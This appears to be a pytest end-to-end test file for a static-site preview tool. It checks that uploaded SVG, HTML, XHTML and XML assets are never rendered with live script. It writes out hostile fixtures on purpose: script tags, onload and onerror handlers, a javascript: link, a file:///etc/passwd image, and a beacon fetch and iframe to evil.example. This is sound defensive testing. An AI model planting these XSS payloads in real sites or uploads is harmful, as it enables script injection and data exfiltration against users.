"""No active content on the site's origin, in a real build opened by a real Chromium.

A workspace holds a hostile SVG (script element, onload handler, external image,
foreignObject with HTML, a javascript: link), a hostile HTML, XHTML and XML file. Every
file of the built site is opened directly: the site's own pages run their scripts, but no
asset's script runs (no dialog, no title or storage change, no request to another host)
and every active original is saved, never rendered. ``proofroom serve`` serves them
the same way.
"""

from __future__ import annotations

import re
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from helpers.browser import Guard, Site, serve, watched_page
from helpers.gitrepo import GitRepo
from helpers.sites import run_build
from helpers.workspaces import write_config

BRIEF = "---\ntitle: Active\ntimezone: Europe/Paris\n---\n# Active\n"
# What any hostile file does when its script runs: each leaves a trace a test can see.
RUN = (
    "document.title='pwned';localStorage.setItem('pwned',location.href);"
    "fetch('http://evil.example/beacon');alert('pwned')"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    f' width="300" height="200" onload="{RUN}">'
    f"<script>{RUN}</script>"
    '<rect width="300" height="200" fill="#0a0"/>'
    '<image href="http://example.com/x.png" width="300" height="200"/>'
    '<image xlink:href="file:///etc/passwd" width="300" height="200"/>'
    '<foreignObject width="300" height="200"><div xmlns="http://www.w3.org/1999/xhtml">'
    f'<img src="x" onerror="{RUN}"/><iframe src="http://evil.example/frame"></iframe>'
    "</div></foreignObject>"
    '<a xlink:href="javascript:alert(1)"><text x="10" y="20">go</text></a></svg>'
)
HTML = (
    f"<!doctype html><title>landing</title><script>{RUN}</script>"
    f'<img src="http://evil.example/px.png" onerror="{RUN}">'
)
XHTML = (
    '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>'
    f"<script>{RUN}</script></body></html>"
)
XML = f'<feed><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script></feed>'
FILES = {"logo.svg": SVG, "landing.html": HTML, "page.xhtml": XHTML, "feed.xml": XML}


def active_workspace(repo: GitRepo) -> GitRepo:
    write_config(repo)
    repo.write("content/campaigns/active/index.md", BRIEF)
    for name, text in FILES.items():
        repo.write(f"assets/active/{name}", text)
    repo.commit("Active files", date="2027-01-05T09:00:00+01:00")
    return repo


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> GitRepo:
    repo = active_workspace(GitRepo(tmp_path_factory.mktemp("active") / "repo"))
    run_build(repo.path)
    return repo


def test_active_originals_are_published_for_download_only(built: GitRepo) -> None:
    site = built.path / "site"
    originals = sorted(p.name for p in (site / "_proofroom/o").iterdir())
    assert len(originals) == len(FILES)
    assert all(re.fullmatch(r"[0-9a-f]{40}\.(svg|html|xhtml|xml)\.bin", n) for n in originals)
    for name in FILES:
        page = (site / f"campaigns/active/review/{name.rsplit('.', 1)[0]}/index.html").read_text(
            encoding="utf-8"
        )
        link = page.split('class="proofroom-download"', 1)[1].split(">", 1)[0]
        assert f'download="{name}"' in link and '.bin"' in link


def _file_urls(site: Path) -> list[str]:
    """Every file of the built site as a URL path: folders' pages by their folder."""
    out = []
    for path in sorted(site.rglob("*")):
        if path.is_file():
            rel = path.relative_to(site).as_posix()
            out.append(rel.removesuffix("index.html"))
    return out


def _open(tab, url: str) -> str:
    """Navigate to ``url``: ``"download"`` when the browser saves it, else ``"shown"``."""
    from playwright.sync_api import Error

    try:
        tab.goto(url, wait_until="load")
    except Error as exc:
        if "Download is starting" in str(exc) or "net::ERR_ABORTED" in str(exc):
            return "download"
        raise
    return "shown"


@pytest.mark.e2e
def test_no_file_of_the_site_runs_an_assets_script(built: GitRepo, browser) -> None:
    server, thread = serve(built.path / "site")
    base = f"http://127.0.0.1:{server.server_address[1]}"
    site = Site(built, built.path / "site", base)
    guard = Guard(origin=base)
    try:
        with watched_page(browser, site, guard) as tab:
            saved: list[str] = []
            tab.on("download", lambda d: saved.append(d.url))
            for rel in _file_urls(site.root):
                how = _open(tab, site.url(rel))
                if rel.startswith("_proofroom/o/"):
                    assert how == "download", rel  # never rendered
                if how == "shown":
                    assert tab.title() != "pwned", rel
            assert {u.rsplit("/", 1)[1] for u in saved} >= {
                p.name for p in (site.root / "_proofroom/o").iterdir()
            }
            tab.goto(site.url("campaigns/active/"))
            assert tab.evaluate("localStorage.getItem('pwned')") is None
            assert tab.title() != "pwned"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.mark.e2e
def test_the_svg_is_shown_as_a_raster_and_downloaded_as_itself(
    built: GitRepo, browser, tmp_path: Path
) -> None:
    server, thread = serve(built.path / "site")
    base = f"http://127.0.0.1:{server.server_address[1]}"
    site = Site(built, built.path / "site", base)
    try:
        with watched_page(browser, site, Guard(origin=base)) as tab:
            tab.goto(site.url("campaigns/active/review/logo/"))
            viewer = tab.locator('[data-proofroom="viewer"]')
            img = viewer.locator("img").first
            assert img.evaluate("i => i.complete && i.naturalWidth") > 0
            assert re.search(r"\.(webp|png|jpg)$", img.get_attribute("src") or "")
            assert tab.locator("object, embed, iframe").count() == 0
            assert tab.locator('img[src$=".svg"], [data-src$=".svg"]').count() == 0
            with tab.expect_download() as info:
                viewer.locator("a.proofroom-download").click()
            download = info.value
            assert download.suggested_filename == "logo.svg"
            target = tmp_path / "saved.svg"
            download.save_as(target)
            assert target.read_bytes() == SVG.encode()
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


# ---------------------------------------------------------------------------- the preview


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _fetch(url: str) -> tuple[str, bytes] | None:
    try:
        with urllib.request.urlopen(url, timeout=5) as r:
            return r.headers.get("Content-Type", ""), r.read()
    except OSError:
        return None


def test_proofroom_serve_serves_active_originals_as_downloads(
    git_repo: GitRepo, tmp_path: Path
) -> None:
    active_workspace(git_repo)
    port = _free_port()
    with open(tmp_path / "serve.log", "wb") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "proofroom.cli", "serve", "-a", f"127.0.0.1:{port}"],
            cwd=git_repo.path,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        page_url = f"http://127.0.0.1:{port}/campaigns/active/review/landing/"
        deadline = time.monotonic() + 120
        page = _fetch(page_url)
        while page is None and time.monotonic() < deadline:
            time.sleep(0.1)  # polling the first build with a deadline
            page = _fetch(page_url)
        assert page is not None, (tmp_path / "serve.log").read_text(encoding="utf-8")
        html = page[1].decode("utf-8")
        href = re.search(r'href="([^"]+)"[^>]*download="landing.html"', html)
        assert href and href.group(1).endswith(".html.bin")
        got = _fetch(urllib.request.urljoin(page_url, href.group(1)))
        assert got is not None
        assert got[0].split(";")[0] == "application/octet-stream"
        assert got[1] == HTML.encode()
    finally:
        proc.terminate()
        proc.wait(timeout=30)
